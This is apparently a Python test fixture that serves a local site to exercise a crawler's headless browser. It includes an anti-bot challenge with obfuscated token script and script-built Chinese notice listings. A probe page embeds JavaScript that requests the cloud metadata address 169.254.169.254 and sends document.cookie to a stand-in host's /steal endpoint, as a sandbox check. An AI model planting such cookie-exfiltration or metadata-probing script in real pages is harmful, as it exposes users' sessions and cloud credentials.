"""A fixture site for the browser: two families a plain HTTP client cannot read, served for real.

- ``/gate/``: an anti-bot gateway. A request without a valid ``gate_token`` cookie gets a challenge:
  412 the first time, a bare 200 after a token ran out, each carrying an obfuscated script that
  computes the token from a per-challenge seed, sets the cookie and reloads. A token is good for
  ``token_uses`` requests. Behind it, a TRS-style column of two list pages and five documents.
- ``/app/``: a script-built column (Vue/Hanweb jpaas style). The list page is an empty ``<ul>``
  whose script reads ``/app/api/list?page=N`` (JSON) and writes the items and a 下一页 link; it
  also pulls an analytics script from another host and an image, which a crawler must not load.
  ``/app/slow.html`` waits for a list that never comes. ``/app/probe.html``'s script tries to reach 169.254.169.254 and the other host, directly and
  through a same-site redirect.

Only the server checks tokens (it knows the seed); the page's script is what a browser runs.
Requests are logged with whether a browser sent them (Chromium sends ``Sec-Fetch-Mode``, httpx not).
"""

from __future__ import annotations

import json
import re
import secrets
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

PER_PAGE = 3


def gate_docs(n: int) -> list[tuple[str, str, str]]:
    """(path, title, date) of the gate column's documents, newest first."""
    return [(f"/gate/list/2024{1 + i // 28:02d}{1 + i % 28:02d}/t2024{1 + i // 28:02d}{1 + i % 28:02d}_{101 + i}.html",
             f"关于第{i + 1}批政务公开事项的通知", f"2024-{1 + i // 28:02d}-{1 + i % 28:02d}") for i in range(n)]


def app_docs(n: int) -> list[tuple[str, str, str]]:
    """(path, title, date) of the script-built column's documents."""
    return [(f"/app/art/art_12_{1001 + i}.html", f"市场监管领域第{i + 1}号公告", f"2024-05-{1 + i % 28:02d}")
            for i in range(n)]


GATE_DOCS = gate_docs(5)
APP_DOCS = app_docs(5)

_DOC = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title></head><body>
<div class="header"><a href="/">首页</a></div>
<div class="article"><h1>{title}</h1><div class="info">发布日期：{date}　来源：市政府办公室</div>
<div class="TRS_Editor"><p>{title}。为进一步做好政府信息公开工作，根据《中华人民共和国政府信息公开条例》，现将有关事项通知如下。</p>
<p>一、各单位要高度重视，认真组织实施，确保各项工作落到实处，按时报送工作进展情况。</p>
<p>二、本通知自印发之日起施行，由市政府办公室负责解释。联系电话：0433-1234567。</p></div></div>
</body></html>"""

_GATE_LIST = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>通知公告</title></head><body>
<div class="list"><ul>{items}</ul></div><div class="page">{pager}</div></body></html>"""

# The challenge: the token's arithmetic is hidden in char codes run through Function(); what
# stays visible is what every such script ends with: set the cookie, reload.
_CHALLENGE_JS = ("var _0x{n}=[{codes}];var _$=Function(String.fromCharCode.apply(null,_0x{n}))('{seed}');"
                 "document.cookie='gate_token='+_$+'; path=/';location.reload();")
_TOKEN_JS = "var s=arguments[0],k=7;for(var i=0;i<s.length;i++){k=(k*31+s.charCodeAt(i))%1000003;}return 'g'+k;"

_APP_LIST = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>公示公告</title>
<script src="{other}/analytics.js"></script></head><body>
<img src="/app/logo.png" alt="">
<div id="app"><ul id="list"></ul><div id="pager"></div></div>
<script src="/app/list.js"></script></body></html>"""

_APP_JS = """(function () {
  var page = Number(new URLSearchParams(location.search).get('page') || '1');
  fetch('/app/api/list?page=' + page).then(function (r) { return r.json(); }).then(function (data) {
    var ul = document.getElementById('list');
    data.items.forEach(function (item) {
      var li = document.createElement('li');
      li.innerHTML = '<a href="' + item.url + '">' + item.title + '</a><span>' + item.date + '</span>';
      ul.appendChild(li);
    });
    if (page < data.pages) {
      document.getElementById('pager').innerHTML = '<a href="list.html?page=' + (page + 1) + '">下一页</a>';
    }
  });
})();"""

_PROBE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>探测</title></head><body>
<div class="TRS_Editor"><p>本页的脚本试图访问云主机元数据地址和其他网站，均应被拦截。</p></div>
<script>
fetch('http://169.254.169.254/latest/meta-data/').catch(function () {});
fetch('{other}/steal?c=' + document.cookie).catch(function () {});
fetch('/app/out').catch(function () {});
fetch('/private/data.json').catch(function () {});
new Image().src = '{other}/pixel.gif';
</script></body></html>"""


def token(seed: str) -> str:
    """What the challenge script computes from ``seed`` (the server's check, not the crawler's)."""
    k = 7
    for ch in seed:
        k = (k * 31 + ord(ch)) % 1000003
    return f"g{k}"


@dataclass
class Hit:
    path: str
    browser: bool
    navigation: bool
    cookie: str
    agent: str


@dataclass
class FixtureSite:
    """The served site's state: issued tokens, and every request it answered."""

    token_uses: int = 1000
    docs: int = 5  # documents in each column
    other: str = ""  # base URL of the "other host" (analytics, exfiltration target)
    tokens: dict[str, int] = field(default_factory=dict)
    hits: list[Hit] = field(default_factory=list)
    challenges: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def plain(self, prefix: str) -> list[Hit]:
        return [h for h in self.hits if h.path.startswith(prefix) and not h.browser]

    def browser(self, prefix: str) -> list[Hit]:
        return [h for h in self.hits if h.path.startswith(prefix) and h.browser]


class _Handler(BaseHTTPRequestHandler):
    """The fixture site's pages; :func:`_handler` binds it to one :class:`FixtureSite`."""

    site: FixtureSite

    def log_message(self, format: str, *args: object) -> None:
        pass

    def send(self, status: int, body: bytes | str, ctype: str = "text/html; charset=utf-8",
             headers: dict[str, str] | None = None) -> None:
        data = body.encode() if isinstance(body, str) else body
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        path = parts.path
        with self.site.lock:
            self.site.hits.append(Hit(self.path, "sec-fetch-mode" in self.headers,
                                 self.headers.get("sec-fetch-mode") == "navigate",
                                 self.headers.get("cookie", ""), self.headers.get("user-agent", "")))
        if path.startswith("/gate/"):
            self.gate(path)
        elif path.startswith("/app/"):
            self.app(path, parse_qs(parts.query))
        elif path == "/robots.txt":
            self.send(200, "User-agent: *\nDisallow: /private/\n", "text/plain")
        else:
            self.send(404, "<html><body>404</body></html>")

    def gate(self, path: str) -> None:
        cookie = self.headers.get("cookie", "")
        given = dict(p.strip().split("=", 1) for p in cookie.split(";") if "=" in p).get("gate_token")
        with self.site.lock:
            left = self.site.tokens.get(given or "", 0)
            if left > 0:
                self.site.tokens[given or ""] = left - 1
            else:
                self.site.challenges += 1
        if left <= 0:
            seed = secrets.token_hex(6)
            with self.site.lock:
                self.site.tokens[token(seed)] = self.site.token_uses
            codes = ",".join(str(ord(c)) for c in _TOKEN_JS)
            script = _CHALLENGE_JS.format(n=seed[:4], codes=codes, seed=seed)
            page = f"<html><head><meta charset=\"utf-8\"><script>{script}</script></head><body></body></html>"
            # The first visit gets 412; a client whose token ran out, a bare 200.
            self.send(412 if not given else 200, page)
            return
        listed = gate_docs(self.site.docs)
        docs = {p: (t, d) for p, t, d in listed}
        m = re.fullmatch(r"/gate/list/(?:index(?:_(\d+))?\.html)?", path)
        if path in docs:
            title, date = docs[path]
            self.send(200, _DOC.format(title=title, date=date))
        elif m:
            page = int(m.group(1) or 0)
            chunk = listed[page * PER_PAGE:(page + 1) * PER_PAGE]
            items = "".join(f'<li><a href="{p}">{t}</a><span>{d}</span></li>' for p, t, d in chunk)
            more = (page + 1) * PER_PAGE < len(listed)
            pager = f'<a href="/gate/list/index_{page + 1}.html">下一页</a>' if more else ""
            self.send(200, _GATE_LIST.format(items=items, pager=pager))
        else:
            self.send(404, "<html><body>404</body></html>")

    def app(self, path: str, query: dict[str, list[str]]) -> None:
        listed = app_docs(self.site.docs)
        docs = {p: (t, d) for p, t, d in listed}
        if path == "/app/list.html":
            self.send(200, _APP_LIST.format(other=self.site.other))
        elif path == "/app/list.js":
            self.send(200, _APP_JS, "application/javascript")
        elif path == "/app/api/list":
            page = int((query.get("page") or ["1"])[0])
            chunk = listed[(page - 1) * PER_PAGE: page * PER_PAGE]
            pages = -(-len(listed) // PER_PAGE)
            body = {"page": page, "pages": pages,
                    "items": [{"url": p, "title": t, "date": d} for p, t, d in chunk]}
            self.send(200, json.dumps(body, ensure_ascii=False), "application/json; charset=utf-8")
        elif path == "/app/probe.html":
            self.send(200, _PROBE.replace("{other}", self.site.other))
        elif path == "/app/slow.html":  # its list never comes
            self.send(200, '<html><body><ul id="list"></ul><script>fetch("/app/hang")</script></body></html>')
        elif path == "/app/hang":
            time.sleep(5)
            self.send(200, "[]", "application/json")
        elif path == "/app/out":
            self.send(302, "", headers={"Location": f"{self.site.other}/redirected"})
        elif path in docs:
            title, date = docs[path]
            self.send(200, _DOC.format(title=title, date=date))
        else:
            self.send(404, "<html><body>404</body></html>")



def _handler(site: FixtureSite) -> type[BaseHTTPRequestHandler]:
    return type("Handler", (_Handler,), {"site": site})


class _Counter(BaseHTTPRequestHandler):
    """The other host: it only counts what reaches it."""

    hits: list[str]

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()


@contextmanager
def _serve(host: str, handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    server = ThreadingHTTPServer((host, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def serve(token_uses: int = 1000, docs: int = 5) -> Iterator[tuple[str, FixtureSite, list[str]]]:
    """Serve the site on 127.0.0.1 and the other host as ``localhost``; yields (base URL, site state,
    the other host's request log)."""
    other_hits: list[str] = []
    counter = type("Counter", (_Counter,), {"hits": other_hits})
    with _serve("127.0.0.1", counter) as other_port:
        site = FixtureSite(token_uses=token_uses, docs=docs, other=f"http://localhost:{other_port}")
        with _serve("127.0.0.1", _handler(site)) as port:
            yield f"http://127.0.0.1:{port}", site, other_hits
